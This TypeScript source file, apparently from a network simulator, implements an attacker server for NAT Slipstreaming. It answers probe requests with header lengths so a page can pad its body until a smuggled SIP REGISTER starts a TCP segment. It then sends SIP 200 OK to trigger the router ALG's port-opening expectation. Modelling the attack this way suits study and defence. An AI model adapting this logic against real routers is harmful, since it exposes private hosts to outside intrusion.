// Mallory's server for NAT Slipstreaming (SEMANTICS.md §6.4), one TCP port speaking two protocols on the same
// connections, as Samy Kamkar's demo server does: HTTP for the browser (the attack page, and the answer to a
// probe POST telling the page how long its request header was, so it can pad the next body until a TCP segment
// starts exactly with `REGISTER`), and SIP for the router's ALG (a `SIP/2.0 200 OK` to the smuggled REGISTER,
// which is what makes nf_conntrack_sip activate the expectation it created from the Contact header).

import type { SimNode, TcpConnection } from "../../sim/index.js";
import { formatIpv4, parseIpv4 } from "../../wire/address.js";

/** A body with this marker is the probe; its answer is the request's header length in decimal. */
export const PROBE_MARKER = "probe:";

const encoder = new TextEncoder();
const decoder = new TextDecoder();
const HEADER_END = "\r\n\r\n";
/**
 * RFC 3261 §7.1 request line of a REGISTER. Not anchored to a line start: in the HTTP body it follows the padding
 * on the same line; only the TCP segment the router's helper reads starts with it.
 */
const REGISTER_LINE = /REGISTER (sips?:[^ \r\n]+) SIP\/2\.0\r?$/m;
const CONTACT_HEADER = /^(?:Contact|m)[ \t]*:[ \t]*([^\r\n]*)$/im;
/** The host and port of a SIP URI (RFC 3261 §19.1.1). */
const SIP_URI_HOST = /sips?:(?:[^@\s;>]*@)?([0-9.]+)(?::(\d{1,5}))?/i;
const CALL_ID_HEADER = /^(?:Call-ID|i)[ \t]*:[ \t]*([^\r\n]*)$/im;
const VIA_HEADER = /^(?:Via|v)[ \t]*:[ \t]*([^\r\n]*)$/im;
const SIP_DEFAULT_PORT = 5060;
const MAX_PORT = 65535;

/** The Contact of a REGISTER as it arrived at Mallory (after whatever the router's ALG rewrote). */
export interface SmuggledRegister {
  readonly contactAddress: string;
  readonly contactPort: number;
  readonly at: number;
}

/**
 * The REGISTER request inside some text (an HTTP body): its Contact's IPv4 address and port, or null when there
 * is no REGISTER request line or no usable Contact.
 */
export function parseSmuggledRegister(text: string): { address: string; port: number } | null {
  const line = REGISTER_LINE.exec(text);
  if (line === null) return null;
  const contact = CONTACT_HEADER.exec(text.slice(line.index));
  if (contact === null) return null;
  const uri = SIP_URI_HOST.exec(contact[1]);
  if (uri === null) return null;
  const address = parseIpv4(uri[1]);
  // An optional group that did not take part is undefined at run time, whatever the index type says.
  const portText = uri[2] as string | undefined;
  const port = portText === undefined ? SIP_DEFAULT_PORT : Number(portText);
  if (address === null || port < 1 || port > MAX_PORT) return null;
  return { address: formatIpv4(address), port };
}

export interface SlipstreamServer {
  readonly registers: SmuggledRegister[];
  readonly pagesServed: number;
  readonly probesAnswered: number;
}

function httpAnswer(status: string, body: string): Uint8Array {
  return encoder.encode(
    `HTTP/1.1 ${status}\r\nContent-Type: text/html\r\nContent-Length: ${encoder.encode(body).length}\r\n\r\n${body}`,
  );
}

/** Starts the server on `port` of Mallory's node; `page` is the attack page's HTML. */
export function startSlipstreamServer(node: SimNode, port: number, page: string, now: () => number): SlipstreamServer {
  const state = { registers: [] as SmuggledRegister[], pagesServed: 0, probesAnswered: 0 };
  const buffers = new WeakMap<TcpConnection, string>();
  node.stack.listenTcp(port, {
    onData: (conn, data) => {
      // Latin-1-safe enough for ASCII requests; the header length is counted on the text as it arrived.
      const text = (buffers.get(conn) ?? "") + decoder.decode(data);
      buffers.set(conn, text);
      const headEnd = text.indexOf(HEADER_END);
      if (headEnd < 0) return;
      const head = text.slice(0, headEnd + HEADER_END.length);
      const length = /\r\ncontent-length:[ \t]*(\d+)/i.exec(head);
      const bodyLength = length === null ? 0 : Number(length[1]);
      if (text.length < head.length + bodyLength) return;
      const body = text.slice(head.length, head.length + bodyLength);
      buffers.delete(conn);
      const register = parseSmuggledRegister(body);
      if (register !== null) {
        state.registers.push({ contactAddress: register.address, contactPort: register.port, at: now() });
        conn.send(encoder.encode(sipOk(body)));
      } else if (body.startsWith(PROBE_MARKER)) {
        state.probesAnswered++;
        conn.send(httpAnswer("200 OK", String(head.length)));
      } else {
        state.pagesServed++;
        conn.send(httpAnswer("200 OK", page));
      }
      conn.close();
    },
  });
  return state;
}

/** RFC 3261 §10.3 step 8: 200 OK to a REGISTER, echoing Via, Call-ID and the bindings (Contact with expires). */
function sipOk(request: string): string {
  const at = REGISTER_LINE.exec(request)?.index ?? 0;
  const sip = request.slice(at);
  const via = VIA_HEADER.exec(sip)?.[1] ?? "SIP/2.0/TCP 0.0.0.0";
  const callId = CALL_ID_HEADER.exec(sip)?.[1] ?? "slipstream";
  const contact = CONTACT_HEADER.exec(sip)?.[1] ?? "";
  return (
    `SIP/2.0 200 OK\r\nVia: ${via}\r\nCall-ID: ${callId}\r\nCSeq: 1 REGISTER\r\n` +
    `Contact: ${contact}\r\nExpires: 3600\r\nContent-Length: 0\r\n\r\n`
  );
}
